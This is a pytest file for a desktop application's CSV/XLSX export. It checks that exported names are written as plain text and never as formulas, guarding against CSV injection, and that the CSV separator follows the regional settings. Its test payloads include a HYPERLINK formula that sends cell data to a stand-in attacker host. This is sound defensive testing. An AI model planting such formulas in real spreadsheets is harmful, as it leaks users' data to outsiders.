"""Every export writes text as text: no name from a sign-up form runs as a formula in a
spreadsheet (OWASP CSV injection), in CSV and XLSX; the CSV separator follows the
system's regional settings, not the language of the application."""

from __future__ import annotations

import csv
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from PySide6.QtCore import QLocale

from desktop import export

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&C2,"Klicka här")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_xlsx_writes_every_text_cell_as_a_string_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "names.xlsx"
    export.write(path, ["Name", "=Header"], [[p, "Åsa Öberg"] for p in PAYLOADS])
    ws = load_workbook(path).active
    assert ws["B1"].data_type == "s" and ws["B1"].value == "=Header"
    for row, payload in enumerate(PAYLOADS, start=2):
        cell = ws.cell(row, 1)
        assert cell.data_type == "s", payload
        assert cell.value == payload.replace("\r", "\n")  # XML reads a CR as a line end
    # The file itself holds no formula element at all.
    from zipfile import ZipFile

    with ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_prefixes_formula_starts_with_a_quote_and_leaves_other_text(
    tmp_path: Path, delimiter: str
) -> None:
    path = tmp_path / "names.csv"
    export.write(path, ["Name", "Count"], [[p, 3] for p in [*PAYLOADS, "Anna", "a-b"]],
                 delimiter=delimiter)  # fmt: skip
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=delimiter))
    assert rows[0] == ["Name", "Count"]
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + p for p in PAYLOADS] + ["Anna", "a-b"]
    assert all(r[1] == "3" for r in rows[1:])  # numbers stay numbers


def test_csv_separator_follows_the_regional_settings_not_the_language() -> None:
    assert export.csv_delimiter(QLocale(QLocale.Language.Swedish, QLocale.Country.Sweden)) == ";"
    assert export.csv_delimiter(QLocale(QLocale.Language.German, QLocale.Country.Germany)) == ";"
    assert (
        export.csv_delimiter(QLocale(QLocale.Language.English, QLocale.Country.UnitedStates)) == ","
    )
    # Without a locale: the system's, whatever QLocale.setDefault (the UI language) says.
    system = export.csv_delimiter(QLocale.system())
    before = QLocale()
    try:
        QLocale.setDefault(QLocale(QLocale.Language.Swedish, QLocale.Country.Sweden))
        assert export.csv_delimiter() == system
    finally:
        QLocale.setDefault(before)


def test_write_uses_the_system_separator_for_csv(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    export.write(path, ["A", "B"], [["1", "2"]])
    sep = export.csv_delimiter(QLocale.system())
    assert path.read_text(encoding="utf-8-sig").splitlines()[0] == f"A{sep}B"


def test_xlsx_columns_are_as_wide_as_their_values_and_empty_values_are_blank(
    tmp_path: Path,
) -> None:
    path = tmp_path / "lista.xlsx"
    rows = [
        ["Åsa", "asa.oberg@forvaltningen.example.se", "", None],
        ["Bo", "bo@f.se", "x" * 120, None],
        *([["Cid", "c@f.se", "", None]] * 300),
    ]
    late = [["Dan", "d" * 90 + "@f.se", "", None]]  # after the first 200 rows: not measured

    headers = ["Förnamn", "E-post", "Kommentar", "Personnummer"]
    assert export.write(path, headers, rows + late) == 303
    ws = load_workbook(path).active
    widths = {c: ws.column_dimensions[c].width for c in "ABCD"}
    assert widths == {"A": 9, "B": 36, "C": 50, "D": 14}  # header or values + 2, 8 to 50
    # An empty value is a blank cell (no empty text), in a row of values.
    assert ws["C2"].value is None and ws["D2"].value is None
    with ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<t></t>" not in sheet and "<t/>" not in sheet
    assert ws.max_row == 304 and ws["B304"].value == "d" * 90 + "@f.se"


def test_an_unwritable_xlsx_path_leaves_no_open_sheet_behind(tmp_path) -> None:
    """The workbook could not be saved: its sheet's writer is closed and its temporary file
    removed at once, not failing later inside whatever code the garbage collector interrupts."""
    import gc

    import pytest
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    from desktop.export import write_xlsx

    (tmp_path / "a-file").write_text("")
    before = set(ALL_TEMP_FILES)
    with pytest.raises(OSError):
        write_xlsx(tmp_path / "a-file" / "x.xlsx", ["Namn"], [["Anna"], ["Bo"]])
    assert set(ALL_TEMP_FILES) == before
    gc.collect()
